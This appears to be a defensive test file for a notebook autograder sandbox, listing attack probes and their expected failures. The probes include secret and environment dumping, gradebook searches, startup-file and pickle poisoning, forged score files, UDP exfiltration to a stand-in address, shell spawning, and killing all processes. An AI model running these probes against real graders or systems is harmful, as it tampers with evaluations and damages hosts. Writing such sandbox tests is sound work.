"""Rows 17-24 and 35: files, secrets, networks and processes outside the sandbox."""

# ruff: noqa: E501  (a learner's cell of a few lines reads best as one string)

from tests.attacks.attack import MARK, Attack

CALL = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    if libc.syscall(number, *args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
"""

ATTACKS = [
    Attack(
        17,
        "source-notebook",
        extra="open('$COURSE/source/coding/mean_and_variance.ipynb')",
        error="FileNotFoundError",
    ),
    Attack(
        17,
        "reference",
        extra="exec(open('$COURSE/notebooks/coding/mean_and_variance/interview.py').read())",
        error="FileNotFoundError",
    ),
    Attack(
        17,
        "package",
        extra="from interviewlab.curriculum import Course",
        error="interviewlab.curriculum",
    ),
    Attack(17, "examiner", extra="from interviewlab.grading import examiner", error="examiner"),
    Attack(
        17,
        "search-everywhere",
        extra="""\
import os
for folder, folders, files in os.walk("/"):
    if folder.count("/") > 4 or folder in ("/usr/lib", "/site/numpy", "/site/matplotlib"):
        folders.clear()
    for name in files:
        if name.endswith(".ipynb") or "gradebook" in name or "mean_and_variance" in folder + name:
            print("loot", folder, name)""",
        secret=r"loot",
    ),
    Attack(
        17,
        "climb",
        extra="import os\nos.chdir('/tmp/../../..')\nprint('loot' if os.path.exists('$COURSE') else os.listdir('/'))",
        secret="loot",
    ),
    Attack(17, "chroot-escape", extra="import os\nos.chroot('/tmp')", error="PermissionError"),
    Attack(
        18,
        "gradebook",
        extra="import sqlite3\nsqlite3.connect('$COURSE/gradebook.db').execute('create table score (x)')",
        error="unable to open database file|No module named",
    ),
    Attack(
        18,
        "gradebook-by-file",
        extra="open('$COURSE/gradebook.db', 'ab').write(b'x')",
        error="FileNotFoundError",
    ),
    Attack(
        19,
        "start-up-file",
        extra=f"""\
import os, pwd
places = [os.path.expanduser("~"), "$HOME", "/root", "/home"]
for place in places:
    try:
        folder = os.path.join(place, ".ipython/profile_default/startup")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "{MARK}.py"), "w") as file:
            file.write("def mean(x): return 0\\nimport os; os._exit(0)")
    except OSError as error:
        print(error)""",
        error="",
    ),
    Attack(19, "python-path", extra=f"open('/site/{MARK}.pth', 'w')", error="Read-only"),
    Attack(
        19,
        "site-packages",
        extra=f"open('$SITE/{MARK}.pth', 'w')",
        error="OSError|FileNotFoundError|Read-only",
    ),
    Attack(
        19,
        "package-code",
        extra="open('/site/interviewlab/checks.py', 'a').write('close = lambda *a: None')",
        error="Read-only",
    ),
    Attack(
        19,
        "shared-memory",
        extra=f"open('/dev/shm/{MARK}', 'w')",
        error="Read-only|No such file|Permission",
    ),
    Attack(
        19,
        "scratch-of-the-next",
        extra=f"open('/tmp/{MARK}', 'w').write('x')\nopen('numpy.py', 'w').write('x')",
    ),
    Attack(
        20,
        "environment",
        extra="""\
import os
print(dict(os.environ), open("/proc/self/environ").read() if os.path.exists("/proc/self") else "")
def mean(x): return 3.0 if os.environ.get("PYTEST_CURRENT_TEST") else 42.0""",
        secret="PYTEST|INTERVIEWLAB_SEED|VIRTUAL_ENV",
    ),
    Attack(
        20,
        "argv",
        extra="import sys, os, socket, getpass\nprint(sys.argv, sys.orig_argv[1:3], socket.gethostname(), os.getuid())",
        secret="pytest|$HOSTNAME",
    ),
    Attack(
        21,
        "reduce",
        extra=f"""\
class Poison:
    def __reduce__(self): return (open, ("$COURSE/{MARK}", "w"))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()""",
        cells={
            "mean": "def mean(x):\n    return Poison()",
            "variance": "def variance(x):\n    return [Poison(), {'a': Poison()}]",
        },
    ),
    Attack(
        21,
        "object-array",
        extra=f"""\
import numpy as np, pickle
class Poison:
    def __reduce__(self): return (open, ("$COURSE/{MARK}", "w"))
    def __getstate__(self): return {{}}""",
        cells={
            "mean": "def mean(x):\n    return np.array([Poison()], dtype=object)",
            "variance": "def variance(x):\n    return pickle.dumps(Poison())",
        },
    ),
    Attack(
        22,
        "late-writer",
        extra=f"""\
import threading, time, os
def write():
    for place in ("$COURSE/autograded", "$COURSE", "/tmp", "."):
        try: open(os.path.join(place, "results-{MARK}.json"), "w").write('{{"points": 7.5}}')
        except OSError: pass
def keep_writing():
    while True: write(); time.sleep(0.01)
threading.Thread(target=keep_writing, daemon=True).start()""",
    ),
    Attack(
        22,
        "inherited-descriptors",
        extra="""\
import os
for descriptor in range(4, 4096):
    try: os.write(descriptor, b'{"event": "end", "reason": ""}')
    except OSError: continue
    print("loot", descriptor)
print(sorted(os.listdir("/dev/fd")) if os.path.exists("/dev/fd") else "no /dev/fd")""",
        secret="loot",
    ),
    Attack(23, "own-memory", extra="open('/proc/self/mem', 'rb')", error="FileNotFoundError"),
    Attack(
        23,
        "objects",
        extra="""\
import gc, os
print([str(found)[:200] for found in gc.get_objects()
       if any(word in type(found).__name__.lower() for word in ("secret", "token", "examiner", "job", "peer"))])""",
        secret="Examiner|Job|Peer|seed",
    ),
    Attack(
        23,
        "core-dump",
        extra="import resource\nresource.setrlimit(resource.RLIMIT_CORE, (10**9, 10**9))",
        error="ValueError|Permission|not allowed",
    ),
    Attack(
        24,
        "tcp",
        extra="import socket\nsocket.create_connection(('127.0.0.1', $PORT), 1)",
        error="OSError|PermissionError|ConnectionRefused|not permitted",
    ),
    Attack(
        24,
        "udp",
        extra="import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('192.0.2.1', 53))",
        error="OSError|PermissionError|unreachable",
    ),
    Attack(
        24,
        "name-service",
        extra="import socket\nprint(socket.getaddrinfo('example.org', 80))",
        error="gaierror|OSError|PermissionError",
    ),
    Attack(
        24,
        "abstract-socket",
        extra="import socket\nsocket.socket(socket.AF_UNIX).connect('\\0$ABSTRACT')",
        error="ConnectionRefused",
    ),
    Attack(
        24,
        "unix-socket",
        extra="import socket\nsocket.socket(socket.AF_UNIX).connect('$COURSE/socket')",
        error="FileNotFoundError",
    ),
    Attack(
        24,
        "raw-and-netlink",
        extra="import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW)\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        error="PermissionError",
    ),
    Attack(
        24,
        "machine-host",
        extra="import socket\nsocket.socket(40, socket.SOCK_STREAM)",
        error="PermissionError|OSError",
    ),
    Attack(
        24,
        "shell",
        extra="import os\nos.execv('/bin/sh', ['sh'])",
        error="PermissionError|FileNotFoundError",
    ),
    Attack(24, "magic-shell", extra="!id > /tmp/out", error="PermissionError|OSError"),
    Attack(24, "magic-system", extra="%%bash\nid", error="PermissionError|OSError|FileNotFound"),
    Attack(
        35,
        "parent",
        extra="import os, signal\nassert os.getppid() == 0\nfor pid in range(2, 3000):\n    try: os.kill(pid, 9)\n    except ProcessLookupError: continue\n    print('loot', pid)",
        secret="loot",
    ),
    Attack(
        35,
        "everybody",
        extra="import os\nos.kill(-1, 19)\nos.kill(-1, 9)",
        error="ProcessLookupError",
    ),
    Attack(35, "own-group", extra="import os\nos.killpg(0, 19)\nos.kill(0, 9)"),
    Attack(35, "trace", extra=CALL + "call(101, 16, 1, 0, 0)", error="PermissionError"),
    Attack(35, "write-memory", extra=CALL + "call(311, 1, 0, 0, 0, 0, 0)", error="PermissionError"),
    Attack(
        35,
        "descriptor-of-another",
        extra=CALL + "call(434, 1, 0)\ncall(438, 3, 0, 0)",
        error="PermissionError|OSError",
    ),
    Attack(35, "namespaces", extra=CALL + "call(272, 0x10000000)", error="PermissionError"),
    Attack(
        35,
        "mounts",
        extra=CALL
        + "libc.mount.restype = ctypes.c_int\ncall(165, b'none', b'/tmp', b'tmpfs', 0, None)",
        error="PermissionError",
    ),
    Attack(35, "keys", extra=CALL + "call(250, 0, -3, 0)", error="PermissionError"),
    Attack(
        35,
        "terminal",
        extra="import fcntl\nfcntl.ioctl(open('/dev/tty', 'w'), 0x5412, b'x')",
        error="OSError|No such",
    ),
    Attack(
        35,
        "priority",
        extra="import os\nos.setpriority(os.PRIO_USER, 0, -20)",
        error="PermissionError",
    ),
]
